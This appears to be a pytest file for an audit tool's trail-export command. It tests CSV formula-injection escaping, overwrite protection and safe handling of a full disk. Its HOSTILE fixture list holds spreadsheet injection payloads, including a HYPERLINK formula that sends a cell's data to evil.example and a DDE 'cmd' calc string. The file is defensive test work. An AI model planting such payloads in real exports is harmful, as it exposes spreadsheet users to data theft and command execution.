"""`attest trail export`: CSV cells never run as spreadsheet formulas, the JSON stays exact, and the output file is
whole or absent, never an input, never replaced without --force."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
from pathlib import Path

import pytest

from audit.outputs import spreadsheet_safe
from audit.trail import Workspace, export_trail, verify_export
from cli.main import main
from tests.records.records_helpers import digests

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(A1:A9)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\tTAB",
    "\rCR",
    "plain text",
    "a=b",
    " =not at start",
]


def cli(capsys, *argv) -> tuple[int, str, str]:
    rc = main([str(a) for a in argv])
    cap = capsys.readouterr()
    return rc, cap.out, cap.err


@pytest.fixture
def hostile_ws(tmp_path: Path) -> Path:
    path = tmp_path / "w.attest"
    with Workspace.open(path) as ws:
        ws.set_identity(HOSTILE[0], "@SUM(1,2)")
        for text in HOSTILE:
            ws.add_note(text)
    return path


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("x=1", "x=1"),
        ("", ""),
        (" =1", " =1"),
        (12, 12),
        (-3, -3),
        (None, None),
    ],
)
def test_spreadsheet_safe_follows_owasp(value, expected) -> None:
    assert spreadsheet_safe(value) == expected


def test_csv_export_neutralises_formulas_and_json_stays_exact(capsys, hostile_ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "trail.csv"
    rc, _, err = cli(capsys, "trail", "export", "--format", "csv", "-o", out, "--workspace", hostile_ws)
    assert rc == 0, err
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    notes = [r for r in rows if r["kind"] == "note"]
    assert [r["summary"] for r in notes] == [spreadsheet_safe(t.strip()) for t in HOSTILE]  # the trail strips
    assert notes[0]["summary"] == "'" + HOSTILE[0] and notes[-2]["summary"] == "a=b"
    for r in rows:  # no cell of any row starts like a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values()), r
    assert all(r["actor_name"] == "'" + HOSTILE[0] and r["actor_role"] == "'@SUM(1,2)" for r in notes)
    assert notes[0]["seq"] == "2"  # numbers are written as numbers

    buf = io.StringIO()
    with Workspace.open(hostile_ws, readonly=True) as ws:
        export_trail(ws, buf, "json")
    data = json.loads(buf.getvalue())
    assert verify_export(data) is None
    assert [e["event"]["payload"]["text"] for e in data["events"][1:]] == [t.strip() for t in HOSTILE]  # no prefix
    assert data["events"][1]["event"]["actor"]["name"] == HOSTILE[0]


def test_export_refuses_to_overwrite_the_workspace_or_an_existing_file(capsys, hostile_ws: Path, tmp_path: Path) -> None:
    before = digests(hostile_ws)
    link = tmp_path / "alias.json"
    os.link(hostile_ws, link)  # another name for the same file
    for target in (hostile_ws, link):
        rc, _, err = cli(capsys, "trail", "export", "--format", "json", "-o", target, "--workspace", hostile_ws)
        assert rc == 2
        assert (
            f"error: --output {target} is the workspace (--workspace) of this run: writing there would destroy "
            "it. Nothing was written."
        ) in err
    assert digests(hostile_ws) == before
    existing = tmp_path / "old.csv"
    existing.write_text("keep me")
    rc, _, err = cli(capsys, "trail", "export", "--format", "csv", "-o", existing, "--workspace", hostile_ws)
    assert rc == 2 and f"error: --output {existing} exists already; it was left as it is." in err
    assert "Add --force to replace it" in err and existing.read_text() == "keep me"
    rc, _, err = cli(capsys, "trail", "export", "--format", "csv", "-o", existing, "--force", "--workspace", hostile_ws)
    assert rc == 0 and existing.read_text().startswith("seq,time,kind")
    rc, _, err = cli(capsys, "trail", "export", "--format", "csv", "-o", tmp_path, "--workspace", hostile_ws)
    assert rc == 2 and f"error: --output {tmp_path} is a folder, not a file." in err


def test_a_full_disk_leaves_no_half_export(capsys, hostile_ws: Path, tmp_path: Path, monkeypatch) -> None:
    out = tmp_path / "exports"
    out.mkdir()
    old = out / "trail.json"
    old.write_text("the previous export")
    real_write = os.write
    written = []

    def write(fd, data):  # the disk fills up after the first 300 bytes
        if fd > 2 and sum(written) + len(data) > 300:
            raise OSError(errno.ENOSPC, "No space left on device")
        written.append(len(data))
        return real_write(fd, data)

    monkeypatch.setattr(os, "write", write)
    rc, _, err = cli(capsys, "trail", "export", "--format", "json", "-o", old, "--force", "--workspace", hostile_ws)
    monkeypatch.undo()
    assert rc == 2 and f"error: {old} could not be written: No space left on device." in err
    assert "Free some disk space" in err and "Traceback" not in err
    assert [p.name for p in out.iterdir()] == ["trail.json"] and old.read_text() == "the previous export"
